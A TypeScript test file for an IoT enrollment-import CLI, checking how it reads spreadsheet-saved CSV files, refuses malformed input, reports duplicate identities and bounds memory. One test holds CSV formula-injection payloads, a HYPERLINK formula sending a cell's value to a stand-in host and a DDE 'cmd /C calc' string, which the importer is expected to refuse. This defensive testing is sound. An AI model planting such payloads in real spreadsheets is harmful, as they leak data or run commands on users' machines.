import assert from 'node:assert/strict';
import { createWriteStream, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { before, describe, it } from 'node:test';
import { EK_PUBLIC_PREFIX } from '../../src/tpm/endorsement-key.ts';
import { syntheticEndorsementKey } from '../fakes/endorsement-keys.ts';
import { emulator, iotdm, lifetimeOfFile, scratchDirectory, type EmulatedService } from '../lab/lab.ts';
import { failing, type ShownFailure } from './failing.ts';

const lifetime = lifetimeOfFile();
let service: EmulatedService;
let dir: string;

before(async () => {
  service = await emulator(lifetime);
  dir = await scratchDirectory(lifetime);
});

const key = (number: number): string => syntheticEndorsementKey(number);

function write(name: string, content: string | Buffer): string {
  writeFileSync(join(dir, name), content);
  return name;
}

/** What is wrong with a file, which was refused before anything was sent. */
async function refused(...args: string[]): Promise<ShownFailure> {
  const sent = service.requests.length;
  const shown = await failing(['enrollment', 'import', ...args, ...service.options], { cwd: dir });
  assert.equal(shown.exitCode, 2);
  assert.equal(service.requests.length, sent, 'nothing was sent');
  return shown;
}

async function checked(...files: string[]): Promise<number> {
  const { code, stdout, stderr } = await iotdm(['enrollment', 'import', ...files, '--dry-run', '--json'], {
    cwd: dir,
  });
  assert.equal(code, 0, stderr);
  return (JSON.parse(stdout) as { total: number }).total;
}

describe('files that spreadsheets save', () => {
  const rows = `\ufeffRegistration ID;Endorsement Key;tags.site\r\npump-1;${key(1)};Zürich, Süd\r\npump-2;${key(2)};"a;b"\r\n;;\r\n`;

  it('with semicolons, a byte order mark and CR LF are read', async () => {
    assert.equal(await checked(write('excel.csv', rows)), 2);
  });

  it('as Unicode text are read', async () => {
    const tabs = rows.replace('"a;b"', 'x').replaceAll(';', '\t');
    assert.equal(await checked(write('unicode.txt', Buffer.from(tabs, 'utf16le'))), 2);
    assert.equal(await checked(write('unicode-be.txt', Buffer.from(tabs, 'utf16le').swap16())), 2);
  });

  it('as UTF-16 without a byte order mark are refused with the place', async () => {
    const { message } = await refused(write('no-mark.csv', Buffer.from(rows.slice(1), 'utf16le')));
    assert.match(message, /^no-mark\.csv:1:2: this is not a CSV file: it holds NUL bytes, .* UTF-16 /);
  });

  it('with formulas are refused where they stand in ids', async () => {
    const formula = '=HYPERLINK(""http://x/?""&A1,""ok"")';
    const { details, message } = await refused(
      write(
        'formulas.csv',
        `endorsementKey,registrationId,deviceId,serialNumber\n${key(1)},"${formula}",,\n${key(2)},,=cmd(1),\n${key(3)},,,"+cmd|' /C calc'!A0"\n${key(4)},,-4.5,+12\n`,
      ),
    );
    assert.equal(message, '3 faults in 4 rows');
    const faults = details?.['faults'] as { line: number; column: number; field: string; message: string }[];
    assert.deepEqual(
      faults.map(({ line, column, field }) => [line, column, field]),
      [
        [2, 426, 'registrationId'],
        [3, 427, 'deviceId'],
        [4, 428, 'serialNumber'],
      ],
    );
    assert.match(faults[1]?.message ?? '', /^a device id that a spreadsheet takes for a formula/);
  });
});

describe('files that are refused', () => {
  it('a line of 10 MB', async () => {
    const { message } = await refused(
      write('long.csv', `endorsementKey,tags.note\n${key(1)},a\n${key(2)},${'x'.repeat(10_000_000)}\n`),
    );
    assert.equal(message, 'long.csv:3:1: the line is longer than 1048576 bytes');
  });

  it('NUL bytes', async () => {
    const { message } = await refused(write('nul.csv', `endorsementKey,deviceId\n${key(1)},pümp\0\n`));
    assert.match(message, /^nul\.csv:2:430: this is not a CSV file: it holds NUL bytes/);
  });

  it('a header without rows', async () => {
    const { message } = await refused(write('header.csv', 'endorsementKey;deviceId\r\n'));
    assert.equal(message, 'header.csv:1:1: this names the columns, and no row follows it');
  });

  it('the same id in two cases, and other identities that two devices would share', async () => {
    const shown = await refused(
      write(
        'twice.csv',
        `registrationId,endorsementKey,deviceId,serialNumber,iotHubHostName\nPump-1,${key(1)},a,S1,\npUMP-1,${key(2)},b,S2,\npump-3,${key(1)},c,S3,\npump-4,${key(4)},a,S4,\npump-5,${key(5)},d,S1,\npump-6,${key(6)},a,S6,other.azure-devices.net\npump-7,${key(7)},e,S7,other.azure-devices.net\npump-8,${key(8)},e,S8,third.azure-devices.net\n`,
      ),
      write('second.ndjson', `{"endorsementKey":"${key(6)}"}\n`),
    );
    // Without a hub a device id may come into any; in two hubs it is that of two devices.
    assert.deepEqual(shown.text.split('\n').slice(0, 6), [
      'twice.csv:3: registrationId: the registration id pump-1 stands in twice.csv:2 already',
      'twice.csv:4: endorsementKey: the same endorsement key under another registration id stands in twice.csv:2 already',
      'twice.csv:5: deviceId: the device id "a", with another endorsement key, stands in twice.csv:2 already',
      'twice.csv:6: serialNumber: the serial number "S1" stands in twice.csv:2 already',
      'twice.csv:7: deviceId: the device id "a", with another endorsement key, stands in twice.csv:2 already',
      'second.ndjson:1: endorsementKey: the same endorsement key under another registration id stands in twice.csv:7 already',
    ]);
  });
});

describe('more faults than can be shown', () => {
  const faulty = `endorsementKey,deviceId\n${'=1+1,x\n'.repeat(2500)}`;

  it('are all in a report beside the input, which spreadsheets can open', async () => {
    const { message, details, text } = await refused(write('faulty.csv', faulty));
    assert.equal(message, '2500 faults in 2500 rows, all of them in faulty.csv.faults.csv');
    assert.equal((details?.['faults'] as unknown[]).length, 100);
    assert.equal(details?.['report'], 'faulty.csv.faults.csv');
    assert.match(text, /\n… and 2400 more\n/);
    const path = join(dir, 'faulty.csv.faults.csv');
    assert.equal(statSync(path).mode & 0o777, 0o600);
    const lines = readFileSync(path, 'utf8').trimEnd().split('\n');
    assert.equal(lines.length, 2501);
    assert.equal(lines[0], 'file,line,column,field,registrationId,message');
    assert.match(
      lines[2500] ?? '',
      /^faulty\.csv,2501,1,endorsementKey,,"base64 of a TPM2B_PUBLIC is expected, /,
    );
    assert.deepEqual(
      readdirSync(dir).filter((name) => name.endsWith('.part')),
      [],
    );
  });

  it('are where they are wanted, and never in the place of another file', async () => {
    const { details } = await refused(write('few.csv', 'endorsementKey\nx\n'), '--faults', 'report.csv');
    assert.equal(details?.['report'], 'report.csv');
    assert.equal(readFileSync(join(dir, 'report.csv'), 'utf8').split('\n').length, 3);
    const foreign = await refused(write('few.csv', 'endorsementKey\nx\n'), '--faults', 'few.csv');
    assert.equal(foreign.code, 'usage.output-exists');
    assert.equal(readFileSync(join(dir, 'few.csv'), 'utf8'), 'endorsementKey\nx\n');
  });

  it('are shown also where no report can be written', async () => {
    write('faulty.csv.faults.csv', 'mine');
    const { message, text } = await refused(write('faulty.csv', faulty));
    assert.equal(message, '2500 faults in 2500 rows');
    assert.match(
      text,
      /^iotdm: warning: faulty\.csv\.faults\.csv exists already, and is no report of faults$/m,
    );
    assert.equal(readFileSync(join(dir, 'faulty.csv.faults.csv'), 'utf8'), 'mine');
  });
});

describe('a hundred thousand rows', () => {
  it('of which the last one is bad: nothing is sent, and memory is bounded', async () => {
    const count = 100_000;
    const modulus = Buffer.alloc(256, 0xff);
    function* lines(): Generator<string> {
      yield 'deviceId,endorsementKey,serialNumber,tags.site\n';
      for (let number = 1; number <= count; number += 1) {
        modulus.writeUInt32BE(number, 100);
        const endorsementKey = Buffer.concat([EK_PUBLIC_PREFIX, modulus]).toString('base64');
        yield `pump-${number},${endorsementKey},SN-${number === count ? 1 : number},Linz\n`;
      }
    }
    await pipeline(Readable.from(lines()), createWriteStream(join(dir, 'many.csv')));
    const { code, stderr } = await iotdm(['enrollment', 'import', 'many.csv', ...service.options], {
      cwd: dir,
      nodeArgs: ['--max-old-space-size=48'],
    });
    assert.equal(code, 2);
    assert.match(
      stderr,
      /^iotdm: error: one fault in 100000 rows: many\.csv:100001: serialNumber: the serial number "SN-1" stands in many\.csv:2 already\n/,
    );
    assert.deepEqual(service.requests, []);
  });
});
